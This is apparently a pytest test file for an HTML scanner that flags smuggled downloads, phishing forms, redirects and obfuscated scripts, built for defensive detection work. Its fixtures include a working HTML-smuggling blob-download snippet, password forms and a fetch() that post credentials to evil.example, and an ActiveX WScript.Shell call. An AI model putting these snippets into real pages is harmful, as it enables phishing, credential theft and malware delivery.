from __future__ import annotations

import base64
import io
import random
import time
import zipfile
from contextlib import suppress

import pytest
from support.opened_file import NAMED_ERRORS, all_text, found, opened, opening_of, urls

from sekisho.parse.unpack.document import html_file


def zipped() -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w") as archive:
        archive.writestr("invoice.js", b"var x = 1;" * 3)
        archive.writestr("readme.txt", random.Random(1).randbytes(600))
    return whole.getvalue()


ZIP = zipped()
EXE = b"MZ" + random.Random(2).randbytes(900)
SEALED = random.Random(3).randbytes(3000)  # encrypted before it was written into the page
DOWNLOAD = """
function b(s){var r=atob(s),n=r.length,u=new Uint8Array(n);while(n--){u[n]=r.charCodeAt(n)}return u}
var blob=new Blob([b(f)],{type:"octet/stream"});var a=document.createElement("a");
a.href=URL.createObjectURL(blob);a.download="invoice.zip";a.click();"""


def text64(octets: bytes) -> str:
    return base64.b64encode(octets).decode()


def page(body: str, head: str = "") -> bytes:
    return f"<!DOCTYPE html><html><head><meta charset=utf-8>{head}</head><body>{body}</body></html>".encode()


def look(body: str, head: str = ""):
    return opened(html_file.open_html, page(body, head), "a.html")


@pytest.mark.parametrize(
    "literal",
    [
        f'var f="{text64(ZIP)}";',
        'var f="' + '"+"'.join(text64(ZIP)[n : n + 76] for n in range(0, len(text64(ZIP)), 76)) + '";',
        "var f=['" + "', '".join(text64(ZIP)[n : n + 76] for n in range(0, len(text64(ZIP)), 76)) + "'].join('');",
        "var f=[" + ",".join(str(octet) for octet in ZIP) + "];",
        "var f=[" + ", ".join(f"0x{octet:02x}" for octet in ZIP) + "];",
        f'var f="{ZIP.hex()}";',
        'var f="' + "".join(f"\\x{octet:02x}" for octet in ZIP) + '";',
    ],
)
def test_a_file_that_a_script_builds(literal):
    opening = look(f"<p>Your invoice is downloading.</p><script>{literal}{DOWNLOAD}</script>")
    assert found(opening)["html-smuggling"] == "high"
    assert [c.content for c in opening.children] == [ZIP]


def test_a_file_in_disguise_is_smuggled_too():
    body = f'<script>var f="{text64(SEALED)}";{DOWNLOAD}</script>'
    assert found(look(body)) == {"html-smuggling": "high"}


def test_a_file_hidden_in_an_element():
    script = f'<script>var f=document.getElementById("d").innerText;{DOWNLOAD}</script>'
    body = f'<div id=d style="display:none">{text64(EXE)}</div>{script}'
    opening = look(body)
    assert found(opening)["html-smuggling"] == "high"
    assert [c.content for c in opening.children] == [EXE]


def test_a_file_behind_a_data_address():
    opening = look(
        f'<a download="a.zip" href="data:application/zip;base64,{text64(ZIP)}">Download</a>' + "words " * 100
    )
    assert found(opening) == {"html-smuggling": "medium"}
    assert [c.content for c in opening.children] == [ZIP]


def test_a_page_that_is_written_by_its_script_is_opened():
    form = "<form action='https://evil.example/p.php' method=post><input type=password name=p></form>"
    inner = f"<html><body>{form}</body></html>"
    opening = look(f'<script>document.write(atob("{text64((inner + " " * 300).encode())}"))</script>')
    severities = found(opening)
    assert severities["html-obfuscated"] == "high"
    assert severities["html-form"] == "high"
    inner += "<p>Sign in to see the invoice.</p>" * 3
    percent = "".join(f"%{octet:02X}" for octet in inner.encode())
    assert found(look(f"<script>document.write(unescape('{percent}'))</script>"))["html-form"] == "high"


@pytest.mark.parametrize(
    ("body", "severity"),
    [
        (
            '<form action="https://evil.example/l.php" method=post><input type="password" name=p></form>',
            "high",
        ),
        (
            "<form><input type=password id=p></form><script>fetch('https://evil.example/c',{method:'POST',body:p.value})</script>",
            "high",
        ),
        (
            '<form action="https://forms.example/in" method="post"><input name="email"><input name="card"></form>',
            "medium",
        ),
    ],
)
def test_forms_that_send_away(body, severity):
    assert found(look(body))["html-form"] == severity


@pytest.mark.parametrize(
    "body",
    [
        '<form action="https://www.example.com/search"><input name=q></form>',
        '<form action="/login" method=post><input type=password></form>',
        '<form action="mailto:info@example.jp" method=post><input name=mail></form>',
    ],
)
def test_forms_that_do_not(body):
    assert found(look(body)) == {}


def test_a_saved_page_with_the_sites_own_login_is_below_high():
    saved = (
        b"<!DOCTYPE html>\n<!-- saved from url=(0026)https://shop.example.co.jp/ -->\n<html><body>"
        b'<form action="https://id.example.co.jp/login" method=post><input type=password></form></html>'
    )
    assert found(opened(html_file.open_html, saved)) == {"html-form": "medium"}


def test_a_file_that_only_leads_elsewhere():
    for body, head in (
        ("", '<meta http-equiv="refresh" content="0; url=https://a.example/x">'),
        ("<script>window.location.href='https://a.example/x'</script>", ""),
        (f"<script>location.replace(atob('{text64(b'https://a.example/x')}'))</script>", ""),
    ):
        opening = look(body, head)
        assert found(opening) == {"html-redirect": "medium"}
        assert "https://a.example/x" in urls(opening)
    assert found(look("<script>location.href='next.html'</script>")) == {}


def test_a_script_that_reaches_for_the_shell():
    assert found(look('<script>new ActiveXObject("WScript.Shell").Run("calc")</script>')) == {"html-active": "high"}


LIBRARY = (
    "function toImage(u){var b=new Blob([u8(atob(u.split(',')[1]))]);var a=document.createElement('a');"
    "a.download='plot.png';a.href=URL.createObjectURL(b);a.click()}" + "function f(x){return x+1};" * 4000
)


@pytest.mark.parametrize(
    "body",
    [
        # a chart with its library and typed arrays in base64
        f'<h1>Report</h1><script>{LIBRARY}</script><script>Plotly.newPlot("p",[{{"x":{{"bdata":"{text64(SEALED)}"}}}}])</script>',
        f'<p>Text</p><img src="data:image/png;base64,{text64(SEALED)}"><script>{LIBRARY}</script>',
        f"<style>@font-face{{src:url(data:font/woff2;base64,{text64(SEALED)})}}</style><p>Text</p>",
        f'<script type="application/json">{{"a":"{text64(ZIP)}"}}</script><p>notebook</p>',
        "<script>var data=[" + ",".join(str(n % 256) for n in range(3000)) + "];draw(data)</script><p>Chart</p>",
        "<script>window.dataLayer=[];function gtag(){dataLayer.push(arguments)}</script><p>Saved page</p>",
    ],
)
def test_reports_and_saved_pages_are_clean(body):
    assert found(look(body)) == {}


@pytest.mark.parametrize("codec", ["cp932", "euc_jp", "iso2022_jp", "utf-8", "utf-16"])
def test_japanese_with_and_without_a_declared_charset(codec):
    words = "<html><body>株式会社山田商事の請求書をお送りします。</body></html>"
    opening = opened(html_file.open_html, words.encode(codec))
    assert all_text(opening) == "株式会社山田商事の請求書をお送りします。"
    declared = f'<html><head><meta charset="{codec}"></head>{words}'
    assert "請求書" in all_text(opened(html_file.open_html, declared.encode(codec)))


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>" * 50_000, "<form " * 100_000, "<input " * 100_000, '<script>var a="' + '"+"' * 300_000,
        "<script>" + "1," * 1_000_000, "data:application/zip;base64," * 30_000, "<script>" + "atob(" * 200_000,
        "<meta http-equiv=refresh " * 30_000, "<script>" + "%41" * 500_000, "<" * 500_000,
        "<script>" + "A" * 2_000_000,
        "<a onload='" * 50_000, "<script>" + "[ " * 300_000, "document.write(" * 100_000, "x" * 399 + "-" * 500_000,
    ],
)  # fmt: skip
def test_hostile_pages_take_bounded_time(hostile):
    started = time.process_time()
    with suppress(*NAMED_ERRORS):
        opened(html_file.open_html, hostile.encode(), seconds=10)
    assert time.process_time() - started < 15


def test_mutated_pages_raise_only_the_named_errors():
    source = random.Random(13)
    seeds = [
        page(f'<script>var f="{text64(ZIP)}";{DOWNLOAD}</script>'),
        page("<form action=https://a.example><input type=password>"),
    ]
    for round_ in range(400):
        octets = bytearray(seeds[round_ % 2])
        for _ in range(source.randrange(1, 20)):
            at = source.randrange(len(octets))
            if source.random() < 0.5:
                octets[at] = source.randrange(256)
            else:
                octets[at:at] = octets[: source.randrange(1, 90)]
        with suppress(*NAMED_ERRORS):
            html_file.open_html(opening_of(bytes(octets)))
